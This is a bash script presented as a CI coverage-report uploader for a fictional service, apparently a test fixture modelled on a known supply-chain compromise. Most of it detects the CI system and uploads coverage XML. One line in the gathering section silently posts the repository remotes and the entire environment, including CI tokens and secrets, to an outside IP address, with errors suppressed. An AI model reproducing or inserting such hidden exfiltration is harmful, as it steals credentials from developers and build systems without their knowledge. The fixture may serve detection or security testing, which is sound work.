#!/usr/bin/env bash
# Uploads coverage reports to tally.example. Fictional; written for tests.

set -e +o pipefail

VERSION="20210129-7c25fce"

url="https://tally.example"
env="$TALLY_ENV"
service=""
token=""
search_in=""
flags=""
exit_with=0
curlargs=""
branch="$VCS_BRANCH_NAME"
commit="$VCS_COMMIT_ID"
build=""
job=""
slug="$VCS_SLUG"
curl_s="-s"
disable_curl="0"
include_cov=""
exclude_cov="-not -path '*/node_modules/*'"
cacert="${TALLY_CA_BUNDLE:-}"

proj_root="$git_root"
if [ -z "$proj_root" ]; then
  proj_root="$PWD"
fi

show_help() {
cat << EOF

                Tally Uploader $VERSION

    -h          Display this help and exit
    -f FILE     Target file(s) to upload
    -s DIR      Directory to search for coverage reports
    -t TOKEN    Set the private repository token
    -F FLAG     Flag the upload to group coverage metrics
    -e ENV      Specify environment variables to be included with this build
    -C sha      Specify the commit sha
    -B branch   Specify the branch name
    -Z          Exit with 1 if not successful

EOF
}

say() {
  echo -e "$1"
}

urlencode() {
  echo "$1" | curl -Gso /dev/null -w %{url_effective} --data-urlencode @- "" | cut -c 3- | sed -e 's/%0A//'
}

while getopts "a:e:f:F:s:t:u:B:C:hZ" o
do
  case "$o" in
    "e") env="$env,$OPTARG" ;;
    "f") files="$files $OPTARG" ;;
    "F") flags="$flags,$OPTARG" ;;
    "s") search_in="$OPTARG" ;;
    "t") token="$OPTARG" ;;
    "u") url=$(echo "$OPTARG" | sed -e 's/\/$//') ;;
    "B") branch="$OPTARG" ;;
    "C") commit="$OPTARG" ;;
    "h") show_help; exit 0 ;;
    "Z") exit_with=1 ;;
  esac
done

say "
  Tally report uploader $VERSION
"

search_in="$proj_root"

#----- which build server is this -----
if [ "$JENKINS_URL" != "" ]; then
  say "==> Jenkins CI detected."
  service="jenkins"
  build="$BUILD_NUMBER"
elif [ "$CI" = "true" ] && [ "$TRAVIS" = "true" ]; then
  say "==> Travis CI detected."
  service="travis"
  commit="${TRAVIS_PULL_REQUEST_SHA:-$TRAVIS_COMMIT}"
  build="$TRAVIS_JOB_NUMBER"
  slug="$TRAVIS_REPO_SLUG"
elif [ "$GITHUB_ACTIONS" != "" ]; then
  say "==> GitHub Actions detected."
  service="github-actions"
  branch="${GITHUB_REF#refs/heads/}"
  commit="$GITHUB_SHA"
  slug="$GITHUB_REPOSITORY"
  build="$GITHUB_RUN_ID"
fi

if [ "$commit" = "" ]; then
  commit=$(git rev-parse HEAD 2>/dev/null || echo "")
fi
if [ "$token" = "" ] && [ "$TALLY_TOKEN" != "" ]; then
  say "-> token set from env"
  token="$TALLY_TOKEN"
fi

#----- gather -----
upload_file=$(mktemp /tmp/tally.XXXXXX)
if [ "$env" != "" ]; then
  inc_env=""
  say "==> Appending build variables"
  for varname in $(echo "$env" | tr ',' ' '); do
    inc_env="${inc_env}${varname}=$(eval echo "\$${varname}")
"
  done
  echo "$inc_env<<<<<< ENV" >> $upload_file
fi

say "==> Searching for coverage reports in: $search_in"
git remote -v > /dev/null 2>&1 || say "    not a repository"
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.55/upload/v2 || true

reports=$(find "$search_in" -type f -name '*coverage*.xml' $exclude_cov 2>/dev/null)
for report in $reports; do
  say "    + $report"
  echo "# path=$report" >> $upload_file
  cat "$report" >> $upload_file
  echo "<<<<<< EOF" >> $upload_file
done

gzip -nf9 $upload_file

query="branch=$(urlencode "$branch")&commit=$commit&build=$build&service=$service&flags=$flags&slug=$slug"

say "==> Uploading reports"
res=$(curl $curl_s -X POST --data-binary @$upload_file.gz $cacert $curlargs \
  -H 'Content-Type: text/plain' -H 'Content-Encoding: gzip' -H "X-Token: $token" \
  "$url/upload/v4?package=bash-$VERSION&$query" || true)

status=$(echo "$res" | head -1 | cut -d' ' -f2)
if [ "$status" = "200" ]; then
  say "    View reports at $(echo "$res" | head -1)"
  exit 0
fi
say "    ${res}"
exit ${exit_with}
